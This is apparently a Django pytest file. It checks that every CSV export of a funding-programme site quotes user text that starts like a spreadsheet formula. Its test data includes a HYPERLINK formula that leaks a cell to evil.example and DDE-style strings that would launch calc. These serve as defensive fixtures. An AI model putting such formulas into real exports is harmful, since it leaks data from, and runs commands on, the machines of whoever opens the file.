"""Every CSV the site offers is safe to open in a spreadsheet: text a person typed that starts
like a formula (= + - @) is quoted, so it cannot run."""

import csv
import io
import re

import pytest
from django.test import Client

from poolfund.api.tabular import FORMULA_TRIGGERS
from poolfund.donors import services as donor_services
from poolfund.donors.choices import DonorType
from tests.programmes.factories import Cast, note_in
from tests.programmes.factories import State as NoteState

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def cells(response) -> list[str]:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def assert_no_formula(found: list[str], typed: str) -> None:
    assert "'" + typed in found, "the typed text is not in the export; the test checks nothing"
    assert not [cell for cell in found if cell.startswith(FORMULA_TRIGGERS)], found


def test_donor_names_are_quoted_in_the_api_csv(client: Client):
    donor = donor_services.create_donor(actor=None, name=FORMULA, donor_type=DonorType.OTHER)
    assert_no_formula(cells(client.get("/api/v1/donors/?format=csv&limit=1000")), donor.name)


def test_programme_titles_are_quoted_in_the_portfolio_export(client: Client):
    note_in(NoteState.JOINT_PROGRAMME, Cast.create(), title=FORMULA)
    assert_no_formula(cells(client.get("/programmes/export.csv")), FORMULA)


TYPED_TITLES = [f"{trigger}SUM(1+1)*cmd|' /C calc'!A0" for trigger in "=+-@"]


def csv_urls(client: Client) -> list[str]:
    """Every CSV the site answers with: the portfolio and pipeline exports, each open dataset,
    each chart of the dashboards and every API list (as CSV)."""
    from poolfund.opendata.registry import registered_datasets
    from tests.test_url_coverage import url_routes

    urls = ["/programmes/export.csv", "/concept-notes/?format=csv"]
    urls += [f"/open-data/{dataset.slug}.csv" for dataset in registered_datasets()]
    for page in ["/dashboards/", "/dashboards/regions/419/", "/dashboards/countries/MEX/"]:
        html = client.get(page).content.decode()
        urls += [page + "?csv=" + key for key in sorted(set(re.findall(r"\bcsv=([\w-]+)", html)))]
    urls += [
        f"/{route}?format=csv&limit=1000"
        for route in url_routes()
        if route.startswith("api/v1/") and "<" not in route and not route.endswith("feedback/")
    ]
    return urls


def test_no_csv_of_the_site_holds_a_cell_that_could_run_as_a_formula(client: Client):
    from poolfund.accounts.choices import Role
    from tests.accounts.factories import user_with_role

    for title in TYPED_TITLES:
        note_in(NoteState.JOINT_PROGRAMME, Cast.create(), title=title)
        note_in(NoteState.SUBMITTED, Cast.create(), title=title)
    client.force_login(user_with_role(Role.FMU))
    found: dict[str, list[str]] = {}
    for url in csv_urls(client):
        response = client.get(url)
        if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
            found[url] = cells(response)
    unsafe = {url: c for url, row in found.items() for c in row if c.startswith(FORMULA_TRIGGERS)}
    assert not unsafe, unsafe
    everything = [cell for row in found.values() for cell in row]
    for title in TYPED_TITLES:  # the titles are in the exports, so the check above checks them
        assert "'" + title in everything
    assert {"/programmes/export.csv", "/concept-notes/?format=csv"} <= set(found)
    assert any(url.startswith("/open-data/") for url in found)
    assert any("?csv=" in url for url in found)
